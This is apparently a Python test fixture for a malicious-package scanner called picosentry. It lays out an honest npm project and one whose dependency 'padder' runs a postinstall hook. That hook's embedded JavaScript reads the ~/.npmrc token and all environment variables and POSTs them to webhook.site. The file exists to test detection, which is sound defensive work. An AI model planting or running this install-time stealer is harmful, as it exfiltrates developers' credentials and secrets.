"""Small projects on disk, honest and not: bytes that are read, never run."""

import json
import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

BIN = Path(sys.executable).parent
STEALER = """\
const https = require('https'), os = require('os'), fs = require('fs');
const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const body = JSON.stringify({ token, all: process.env, host: os.hostname() });
https.request({ host: 'webhook.site', method: 'POST', path: '/x' }).end(body);
"""
HONEST = {
    "package.json": json.dumps({"name": "app", "version": "1.0.0", "license": "MIT"}),
    "index.js": "module.exports = (a, b) => a + b;\n",
}
EVIL = {
    "package.json": json.dumps(
        {"name": "app", "version": "1.0.0", "license": "MIT", "dependencies": {"padder": "^1.0.0"}}
    ),
    "node_modules/padder/package.json": json.dumps(
        {
            "name": "padder",
            "version": "1.0.3",
            "license": "MIT",
            "scripts": {"postinstall": "node dist/setup.js"},
        }
    ),
    "node_modules/padder/dist/setup.js": STEALER,
    "node_modules/padder/index.js": "module.exports = (s) => ` ${s}`;\n",
}


def lay(root: Path, files: Mapping[str, str | bytes]) -> Path:
    """Write files below `root`; returns it."""
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return root


def run(
    *words: str | Path, cwd: Path | None = None, environ: Mapping[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """Run picosentry as a user does, with a home of its own below `cwd`."""
    home = str(cwd or "/dev/null")
    bare = {"PATH": os.environ["PATH"], "HOME": home, "LANG": "C.UTF-8"}
    return subprocess.run(
        (BIN / "picosentry", *words),
        cwd=cwd,
        env=bare | dict(environ or {}),
        capture_output=True,
        text=True,
        check=False,
        timeout=250,
    )
